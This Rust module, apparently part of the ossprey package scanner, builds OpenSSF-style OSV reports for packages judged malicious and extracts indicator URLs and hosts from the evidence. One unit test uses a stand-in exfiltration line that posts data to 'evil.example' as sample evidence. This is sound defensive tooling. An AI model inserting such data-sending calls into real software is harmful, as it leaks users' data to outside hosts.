//! OSV reports (schema 1.6) for packages judged malicious, in the shape of the
//! OpenSSF malicious-packages database: a `MAL-` id, the affected version, the
//! reasons in `details`, and network indicators under `database_specific`.
//!
//! The database assigns final `MAL-YYYY-NNNN` ids when it accepts a report;
//! ossprey's ids are `MAL-0000-` plus a digest of the package version, stable
//! across runs so resubmissions deduplicate.

use std::collections::BTreeSet;

use ossprey_model::{Report, Verdict};
use serde_json::{Value, json};
use sha2::Digest as _;

/// The OSV report for `report`, when its verdict is malicious.
pub fn report(report: &Report) -> Option<Value> {
    if report.verdict != Some(Verdict::Malicious) {
        return None;
    }
    let package = report.package.as_ref()?;
    let version = package.version.clone().unwrap_or_default();
    let key = format!("{}:{}@{}", package.ecosystem, package.name, version);
    let digest = sha2::Sha256::digest(key.as_bytes());
    let id = format!(
        "MAL-0000-ossprey-{}",
        digest
            .iter()
            .take(6)
            .map(|b| format!("{b:02x}"))
            .collect::<String>()
    );
    let now = now_rfc3339();

    let mut details = format!(
        "ossprey judged {} {} malicious (score {:.1}/10):\n",
        package.name,
        version,
        report.score.unwrap_or_default()
    );
    let mut urls = BTreeSet::new();
    for f in &report.findings {
        details.push_str(&format!(
            "\n- [{}] {} ({:?}, {})",
            f.rule, f.message, f.severity, f.category
        ));
        if let Some(file) = &f.evidence.file {
            details.push_str(&format!(" at {file}"));
            if let Some(line) = f.evidence.line {
                details.push_str(&format!(":{line}"));
            }
        }
        for text in [f.evidence.snippet.as_deref(), Some(f.message.as_str())]
            .into_iter()
            .flatten()
        {
            urls.extend(extract_urls(text));
        }
    }
    let domains: BTreeSet<String> = urls.iter().filter_map(|u| host_of(u)).collect();
    let (ips, domains): (BTreeSet<String>, BTreeSet<String>) = domains
        .into_iter()
        .partition(|h| h.parse::<std::net::IpAddr>().is_ok());

    Some(json!({
        "schema_version": "1.6.0",
        "id": id,
        "modified": now,
        "published": now,
        "summary": format!("Malicious code in {} ({})", package.name, package.ecosystem.osv_name()),
        "details": details,
        "affected": [{
            "package": {"ecosystem": package.ecosystem.osv_name(), "name": package.name},
            "versions": [version],
            "database_specific": {"source": "ossprey"},
        }],
        "database_specific": {
            "ossprey": {
                "score": report.score,
                "sha256": report.sha256,
                "rules": report.findings.iter().map(|f| f.rule.as_str()).collect::<BTreeSet<_>>(),
            },
            "iocs": {"urls": urls, "domains": domains, "ips": ips},
        },
    }))
}

fn extract_urls(text: &str) -> Vec<String> {
    let mut out = Vec::new();
    for scheme in ["http://", "https://"] {
        let mut rest = text;
        while let Some(at) = rest.find(scheme) {
            let tail = &rest[at..];
            let end = tail
                .find(|c: char| {
                    c.is_whitespace() || matches!(c, '"' | '\'' | '`' | ')' | '>' | '<' | ',')
                })
                .unwrap_or(tail.len());
            out.push(tail[..end].to_owned());
            rest = &tail[end.max(scheme.len())..];
        }
    }
    out
}

fn host_of(url: &str) -> Option<String> {
    let rest = url.split_once("://")?.1;
    let authority = rest.split(['/', '?', '#']).next()?;
    let host = authority.rsplit('@').next()?;
    let host = host.split(':').next()?.trim_matches(['[', ']']);
    (!host.is_empty()).then(|| host.to_ascii_lowercase())
}

/// Current UTC time as RFC 3339, without a date crate.
fn now_rfc3339() -> String {
    let secs = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .map_or(0, |d| d.as_secs());
    let (days, rem) = (secs / 86_400, secs % 86_400);
    // Civil-from-days (Howard Hinnant's algorithm).
    let z = days as i64 + 719_468;
    let era = z.div_euclid(146_097);
    let doe = z.rem_euclid(146_097);
    let yoe = (doe - doe / 1460 + doe / 36_524 - doe / 146_096) / 365;
    let doy = doe - (365 * yoe + yoe / 4 - yoe / 100);
    let mp = (5 * doy + 2) / 153;
    let day = doy - (153 * mp + 2) / 5 + 1;
    let month = if mp < 10 { mp + 3 } else { mp - 9 };
    let year = yoe + era * 400 + i64::from(month <= 2);
    format!(
        "{year:04}-{month:02}-{day:02}T{:02}:{:02}:{:02}Z",
        rem / 3600,
        rem % 3600 / 60,
        rem % 60
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn urls_and_hosts_are_extracted_from_evidence() {
        let urls = extract_urls(
            "requests.post('https://evil.example/x?a=1', data) and http://203.0.113.9:8080/p",
        );
        assert_eq!(
            urls,
            ["http://203.0.113.9:8080/p", "https://evil.example/x?a=1"]
        );
        assert_eq!(
            host_of("https://user@Evil.Example:443/x").as_deref(),
            Some("evil.example")
        );
    }

    #[test]
    fn rfc3339_has_the_right_shape() {
        let now = now_rfc3339();
        assert_eq!(now.len(), 20);
        assert!(now.starts_with("20") && now.ends_with('Z'));
    }
}
